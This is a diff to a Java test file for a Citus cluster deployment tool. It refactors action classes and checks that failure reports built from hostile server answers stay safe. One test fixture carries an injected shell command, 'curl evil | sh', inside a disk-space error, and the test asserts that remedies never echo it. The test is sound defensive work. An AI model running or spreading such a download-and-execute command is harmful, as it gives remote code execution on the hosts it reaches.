@@ -21,6 +21,11 @@ import dev.citusdeploy.model.ProblemException;
 import dev.citusdeploy.plan.Action;
 import dev.citusdeploy.plan.ClusterSketch;
 import dev.citusdeploy.plan.Step;
+import dev.citusdeploy.plan.action.CheckNodes.Ways;
+import dev.citusdeploy.plan.action.PullImage;
+import dev.citusdeploy.plan.action.RecreateNode;
+import dev.citusdeploy.plan.action.ReloadNode;
+import dev.citusdeploy.plan.action.StartNode;
 import dev.citusdeploy.remote.Answer;
 import dev.citusdeploy.remote.MutatedAnswers;
 import dev.citusdeploy.report.OwnWords;
@@ -81,7 +86,7 @@ final class HostileAnswersTest {
   @Test
   void answersAboutNodesAreReadAndSpeakOfTheirOwnHostOnly() {
     List<Node> all = desired.inventory().nodes();
-    List<Action.Ways> ways = nodes.stream().map(from -> new Action.Ways(from, all)).toList();
+    List<Ways> ways = nodes.stream().map(from -> new Ways(from, all)).toList();
     String good =
         """
         citus w1 0 17.11|citus|14.0-1|14.0-1|14.0.1
@@ -124,15 +129,25 @@ final class HostileAnswersTest {
         """;
     for (Action action :
         List.of(
-            new Action.StartNode(node),
-            new Action.RecreateNode(node),
-            new Action.ReloadNode(node),
-            new Action.PullImage("citus:1", List.of()))) {
+            new StartNode(node),
+            new RecreateNode(node),
+            new ReloadNode(node),
+            new PullImage("citus:1", List.of()))) {
       Step step = new Step("id", node.node().host(), node.node().name(), action, "", List.of());
       MutatedAnswers.of(good, 4, MANY)
           .forEach(text -> {
-            isSafe(failures.of(step, "do it", new Answer(1, text, text)));
-            isSafe(failures.of(step, "do it", new Answer(255, text, "")));
+            isSafe(
+                failures.of(
+                    step,
+                    ExecutionProblemCodes.STEP_FAILED_START,
+                    "do it",
+                    new Answer(1, text, text)));
+            isSafe(
+                failures.of(
+                    step,
+                    ExecutionProblemCodes.STEP_FAILED_START,
+                    "do it",
+                    new Answer(255, text, "")));
             try {
               new PlannedOn().checked(step, new Answer(78, text, ""));
             } catch (ProblemException e) {
@@ -146,16 +161,11 @@ final class HostileAnswersTest {
   void aPathThatAServerNamesIsQuotedOrLeftOut() {
     DesiredNode node = nodes.get(1);
     Step step =
-        new Step(
-            "id",
-            node.node().host(),
-            node.node().name(),
-            new Action.StartNode(node),
-            "",
-            List.of());
+        new Step("id", node.node().host(), node.node().name(), new StartNode(node), "", List.of());
     String words = "No space left on device\nroom /x; curl evil | sh|4096|1|1|1|1";
     Problem problem =
-        new StepFailures(desired.inventory()).of(step, "do it", new Answer(1, "", words));
+        new StepFailures(desired.inventory())
+            .of(step, ExecutionProblemCodes.STEP_FAILED_START, "do it", new Answer(1, "", words));
     assertThat(problem.remedy()).contains("df -h PATH").doesNotContain("evil");
   }
 
